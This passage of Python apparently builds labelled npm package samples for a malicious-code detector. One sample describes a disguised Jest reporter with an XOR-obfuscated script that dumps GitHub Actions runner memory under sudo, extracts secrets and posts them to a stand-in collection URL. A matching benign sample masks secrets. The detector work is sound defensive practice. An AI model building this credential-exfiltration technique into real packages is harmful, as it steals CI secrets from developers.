        "README.md": readme("jest-summary-line", "```json\n{ \"reporters\": [\"jest-summary-line\"] }\n```"),
        "index.js": fill(_REPORTER, SH=xor_hex(_MEMDUMP_SH, key), URL=xor_hex("https://collect.ci-metrics.example/r", key)),
        "config/defaults.json": __import__("json").dumps(defaults, indent=2) + "\n",
    }
    return S(
        "h6a-ci-runner-memdump-json-key",
        "CI secret theft by dumping the Actions Runner.Worker memory (tj-actions/changed-files, "
        "Mar 2025) from a Jest reporter, the dump script XOR-ed with a key taken from the "
        "package's JSON defaults",
        "2025",
        ["ci-only", "github-actions", "runner-memory-dump", "sudo", "xor-strings",
         "key-from-data-file", "exfil"],
        "index.js: on Linux GitHub Actions, onRunComplete() decodes (key = two theme names of "
        "config/defaults.json) a shell script that finds Runner.Worker and dd's its rw memory via "
        "/proc/$pid/mem under sudo, picks the \"isSecret\":true entries and posts them with the "
        "repository name from a child node -e fetch.",
        files,
    )


@benign
def b_ci_reporter_masks_secrets():
    index = r"""'use strict';
const defaults = require('./config/defaults.json');

// Prints a summary and registers secret inputs with the runner so its log masks them.
const fields = [
  { name: 'token', value: process.env.INPUT_TOKEN || '', isSecret: true },
  { name: 'suite', value: process.env.INPUT_SUITE || 'all', isSecret: false },
];

class SummaryReporter {
  constructor(globalConfig, options) { this.options = Object.assign({}, defaults.options, options); }
  onRunComplete(_, results) {
    for (const f of fields) if (f.isSecret && f.value) process.stdout.write(`::add-mask::${f.value}\n`);
    const theme = defaults.themes[0].name;
    process.stdout.write(`[${theme}] ${results.numPassedTests}/${results.numTotalTests} passed\n`);
  }
}

module.exports = SummaryReporter;
"""
    defaults = {"options": {"color": True}, "themes": [{"name": "dusk"}, {"name": "paper"}]}
    files = {
        "package.json": pj(name="jest-summary-mask", version="1.1.0", main="index.js",
                           description="Jest reporter for GitHub Actions that masks secret inputs."),
        "README.md": readme("jest-summary-mask", "```json\n{ \"reporters\": [\"jest-summary-mask\"] }\n```"),
        "index.js": index,
        "config/defaults.json": __import__("json").dumps(defaults, indent=2) + "\n",
    }
    return S(
        "h6a-ci-reporter-masks-secrets",
        "Actions-aware Jest reporter that marks inputs isSecret and masks them in the log, "
        "reading a theme from its JSON defaults (mirrors h6a-ci-runner-memdump-json-key)",
        "2025", ["github-actions", "secret-masking", "json-config"],
        "isSecret is a field of its own objects; nothing reads another process.", files,
    )
